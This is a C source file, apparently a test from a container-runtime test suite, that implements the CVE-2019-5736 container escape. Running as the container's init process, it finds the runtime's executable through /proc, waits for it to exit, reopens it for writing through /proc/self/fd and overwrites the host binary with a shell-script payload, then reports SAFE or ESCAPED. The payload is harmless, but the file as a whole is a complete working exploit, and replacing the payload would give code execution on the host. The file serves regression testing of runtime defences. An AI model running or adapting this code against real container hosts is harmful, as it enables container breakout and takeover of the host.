/* CVE-2019-5736: overwrite the container runtime's binary through
 * /proc/PID/exe. Run as the container's init; the test then makes the
 * runtime execute its own binary inside the container (`RT exec ID /evil`
 * with /evil = "#!/proc/self/exe"). This program watches /proc for a
 * process whose exe is not its own, keeps an O_PATH fd to that exe, waits
 * for the process to exit (writing a running binary gives ETXTBSY), then
 * opens /proc/self/fd/N for writing and writes a payload. A runtime that
 * re-executes itself from a sealed memfd (or a read-only copy) makes that
 * fail; a vulnerable one gets its binary on the host overwritten.
 *
 *   cve_2019_5736 [-r RESULT_FILE] [-t SECONDS]
 * Lines "SAW: ..." (a foreign exe was found: the run is conclusive),
 * "SAFE: ..." or "ESCAPED: ..." go to stdout and RESULT_FILE; the exit
 * status is 0 unless ESCAPED. */
#include <dirent.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

#include "ct_prog.h"

static const char payload[] = "#!/bin/sh\necho disco-cve-2019-5736-pwned\n";

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void reap(void)
{
    while (waitpid(-1, NULL, WNOHANG) > 0) {
    }
}

/* Returns an O_PATH fd to the exe of a process that is not running our
 * own binary, or -1; *pid_out, link: which. */
static int find_foreign_exe(const struct stat *self, pid_t *pid_out, char *link, size_t linklen)
{
    DIR *d = opendir("/proc");
    if (!d)
        return -1;
    int found = -1;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end || pid <= 0 || pid == (long)getpid())
            continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/%ld/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue; /* a kernel thread, gone already, or not ptrace-readable */
        struct stat st;
        if (fstat(fd, &st) == 0 && (st.st_dev != self->st_dev || st.st_ino != self->st_ino)) {
            ssize_t n = readlink(path, link, linklen - 1);
            link[n > 0 ? n : 0] = 0;
            *pid_out = (pid_t)pid;
            found = fd;
            break;
        }
        close(fd);
    }
    closedir(d);
    return found;
}

/* pid has exited (or is a zombie, which holds no mm and so no exe). */
static int process_gone(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 1;
    buf[n] = 0;
    const char *paren = strrchr(buf, ')');
    return paren && (paren[2] == 'Z' || paren[2] == 'X');
}

int main(int argc, char **argv)
{
    const char *result_path = NULL;
    double timeout = 60;
    int opt;
    while ((opt = getopt(argc, argv, "r:t:")) != -1) {
        if (opt == 'r')
            result_path = optarg;
        else if (opt == 't')
            timeout = atof(optarg);
        else {
            fprintf(stderr, "usage: %s [-r RESULT] [-t SECONDS]\n", argv[0]);
            return 2;
        }
    }
    int rfd = -1;
    if (result_path) {
        rfd = open(result_path, O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0644);
        if (rfd < 0)
            say("note: cannot open %s: %s", result_path, strerror(errno));
    }
    struct stat self;
    if (stat("/proc/self/exe", &self) != 0) {
        ct_say(rfd, "SAFE: no /proc/self/exe (%s): nothing to attack from", strerror(errno));
        return 0;
    }
    ct_say(rfd, "TRY: watching /proc for a foreign exe for %.0fs (I am pid %d)", timeout, (int)getpid());

    double deadline = now() + timeout;
    pid_t pid = 0;
    char link[512];
    int exefd = -1;
    while (now() < deadline) {
        reap();
        exefd = find_foreign_exe(&self, &pid, link, sizeof link);
        if (exefd >= 0)
            break;
    }
    if (exefd < 0) {
        ct_say(rfd, "INCONCLUSIVE: no foreign exe seen in %.0fs", timeout);
        return 0;
    }
    ct_say(rfd, "SAW: pid %d exe -> %s (O_PATH fd %d)", (int)pid, link, exefd);

    /* Writing a running binary gives ETXTBSY: wait until that process is
     * gone (or a zombie), as the real exploit does. */
    double stop = now() + 10;
    while (now() < stop && !process_gone(pid)) {
        reap();
        usleep(200);
    }
    char fdpath[64];
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", exefd);
    int wfd = -1, err = 0, tries = 0;
    for (;;) {
        tries++;
        wfd = open(fdpath, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (wfd >= 0)
            break;
        err = errno;
        if (err != ETXTBSY || now() > stop)
            break;
        reap();
        usleep(200);
    }
    ct_say(rfd, "TRY: open(%s -> %s, O_WRONLY|O_TRUNC) after %d tries: %s", fdpath, link, tries,
           wfd >= 0 ? "opened" : strerror(err));
    if (wfd < 0 && err != ETXTBSY) {
        /* A sealed memfd refuses the truncation; try overwriting in place
         * (ETXTBSY while a runtime process on the host still runs it). */
        tries = 0;
        for (;;) {
            tries++;
            wfd = open(fdpath, O_WRONLY | O_CLOEXEC);
            if (wfd >= 0)
                break;
            err = errno;
            if (err != ETXTBSY || now() > stop)
                break;
            reap();
            usleep(200);
        }
        ct_say(rfd, "TRY: open(%s, O_WRONLY) after %d tries: %s", fdpath, tries,
               wfd >= 0 ? "opened" : strerror(err));
    }
    if (wfd < 0) {
        ct_say(rfd, "SAFE: cannot open the runtime's exe %s for writing: %s", link, strerror(err));
        return 0;
    }
    ssize_t n = pwrite(wfd, payload, sizeof payload - 1, 0);
    if (n == (ssize_t)(sizeof payload - 1)) {
        ct_say(rfd, "ESCAPED: wrote %zd bytes over the runtime's exe %s", n, link);
        return 1;
    }
    ct_say(rfd, "SAFE: write to the runtime's exe %s failed: %s", link,
           n < 0 ? strerror(errno) : "short write");
    return 0;
}
